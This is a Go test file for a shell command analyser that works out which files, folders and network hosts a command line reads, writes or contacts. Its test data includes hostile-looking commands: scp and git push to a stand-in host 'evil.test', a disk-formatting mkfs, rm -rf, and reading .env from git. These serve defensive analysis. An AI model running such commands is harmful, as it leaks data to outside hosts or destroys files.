package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestWhereProgramsWrite(t *testing.T) {
	tests := map[string]struct {
		reason, script, writes, reads string
		network, dynamic              bool
	}{
		"saved":            {"curl names the file after the address", "curl -sSLO http://h/a/f.txt", "f.txt", "", true, false},
		"saved by header":  {"the server names the file", "curl -OJ http://h/f.txt", ".", "", true, false},
		"saved by pattern": {"a pattern names many files", "curl -O http://h/f[1-3]", ".", "", true, false},
		"download":         {"a redirect may name another file", "wget http://h/x", ". ~/.wget-hsts", "", true, false},
		"download to":      {"the file is named", "wget -O x http://h/y", "x ~/.wget-hsts", "", true, false},
		"download into":    {"the folder is named", "wget --no-hsts -P d http://h/y", "d", "", true, false},
		"unpack into":      {"nothing is written here", "unzip a.zip -d /tmp/x", "/tmp/x", "a.zip", false, false},
		"unpack":           {"everything is written here", "unzip a.zip", ".", "a.zip", false, false},
		"pack":             {"the first one is written", "zip -r a.zip d e", "a.zip", "d e", false, false},
		"format":           {"a file system is written over what is there", "mkfs.ext4 /dev/sda1", "/dev/sda1", "", false, false},
		"placeholder":      {"what xargs fills in is not known", "xargs -I{} cp {} d", "d d/?", "?", false, true},
		"trap":             {"a trap runs where the script is, and cd may fail", "cd a; trap 'rm f' EXIT", "a/f f", "", false, false},
		"trap and move":    {"the script moves before the trap runs", "trap 'rm f' EXIT; cd /", "f", "", false, true},
		"trap and call":    {"a function moves", "m() { cd /; }; trap 'rm f' EXIT; m", "f", "", false, true},
		"service":          {"a program of a service talks to it", "gh pr create", "", "", true, false},
		"pattern option":   {"with -e the first operand is a file", "grep -e x f", "", "f", false, false},
		"pattern file":     {"with -f too", "rg -f pats f", "", "pats f", false, false},
		"of a commit":      {"git shows files as they were", "git show HEAD:.env", "", ".env", false, false},
		"manual":           {"a page is no file", "man ls", "", "", false, false},
		"manual file":      {"unless it is", "man ./x.1", "", "./x.1", false, false},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f := Parse(tc.script, "")
			if diff := cmp.Diff(sorted(strings.Fields(tc.writes)), sorted(f.Writes)); diff != "" {
				t.Errorf("%s: writes of %q (-want +got):\n%s", tc.reason, tc.script, diff)
			}
			if diff := cmp.Diff(sorted(strings.Fields(tc.reads)), sorted(f.Reads)); diff != "" {
				t.Errorf("%s: reads of %q (-want +got):\n%s", tc.reason, tc.script, diff)
			}
			if f.Network != tc.network || f.Dynamic != tc.dynamic {
				t.Errorf("%s: %q: network %t, dynamic %t %q", tc.reason, tc.script, f.Network, f.Dynamic, f.Reasons)
			}
		})
	}
}

func TestFoldersThatAreTakenWithAllThatIsInThem(t *testing.T) {
	tests := map[string]struct{ reason, script, trees string }{
		"here":        {"without an operand grep -r begins here", "grep -rn x", "."},
		"folder":      {"the folder is named", "grep -rn x src lib", "src lib"},
		"pattern":     {"with -e the first operand is a folder", "grep -R -e x src", "src"},
		"file":        {"without -r grep reads a file", "grep x f", ""},
		"always":      {"rg needs no option", "rg x", "."},
		"moved":       {"cd leads there", "cd sub && rg x", "sub"},
		"removed":     {"", "rm -rf d", "d"},
		"one file":    {"", "rm d", ""},
		"copied":      {"the target is no source", "cp -a d e", "d"},
		"renamed":     {"what is in it has new names", "mv d e", "d"},
		"packed":      {"", "tar czf a.tgz -C sub x", "sub/x"},
		"zipped":      {"the archive is no source", "zip -r a.zip d", "d"},
		"names":       {"find tells names", "find d -name x", ""},
		"found":       {"find hands on what it finds", "find d -exec cat {} +", "d"},
		"deleted":     {"", "find d -delete", "d"},
		"git":         {"git grep searches all there is", "git grep x", "."},
		"unknown":     {"a program that is not known may take all", "mytool ./d --in=e/f", "./d e/f"},
		"transferred": {"", "rsync -a d/ h:e", "d/"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(sorted(strings.Fields(tc.trees)), sorted(Parse(tc.script, "").Trees)); diff != "" {
				t.Errorf("%s: %q (-want +got):\n%s", tc.reason, tc.script, diff)
			}
		})
	}
}

func TestEveryWayToNameAHost(t *testing.T) {
	tests := map[string]string{
		"scp a root@evil.test:x":                             "evil.test",
		"scp -r evil.test:x .":                               "evil.test",
		"git push git@evil.test:x HEAD:main":                 "evil.test",
		"git push evil.test:x":                               "evil.test",
		"git push --repo=evil.test:x":                        "evil.test",
		"git clone --depth 1 evil.test:x":                    "evil.test",
		"git ls-remote ssh://evil.test/x":                    "evil.test",
		"curl -x http://evil.test:80 http://ok.test":         "evil.test ok.test",
		"curl --proxy evil.test:80 http://ok.test":           "evil.test ok.test",
		"curl --socks5-hostname evil.test:80 http://ok.test": "evil.test ok.test",
		"git push origin HEAD:main":                          "",
		"git fetch origin main:x":                            "",
		"git clone ./a:b":                                    "",
		"scp a b":                                            "",
	}
	for script, want := range tests {
		f := Parse(script, "")
		if diff := cmp.Diff(sorted(strings.Fields(want)), sorted(f.Hosts)); diff != "" || !f.Network {
			t.Errorf("%s: network %v (-want +got):\n%s", script, f.Network, diff)
		}
	}
	for _, script := range []string{"curl --connect-to ::evil.test:443 https://ok.test", "curl --resolve ok.test:443:192.0.2.1 https://ok.test"} {
		if !Parse(script, "").Dynamic {
			t.Errorf("%s: the host that is reached is another one", script)
		}
	}
}

func TestAProgramOutsideTheFoldersOfTheSystemIsAnOperand(t *testing.T) {
	for script, want := range map[string]string{"nice /data/frob -x": "/data/frob", "/usr/lib/frob": "", "/bin/ls": "", "/usr/../data/frob": "/usr/../data/frob"} {
		if got := strings.Join(Parse(script, "").Operands, " "); got != want {
			t.Errorf("%s: the operands are %q", script, got)
		}
	}
}
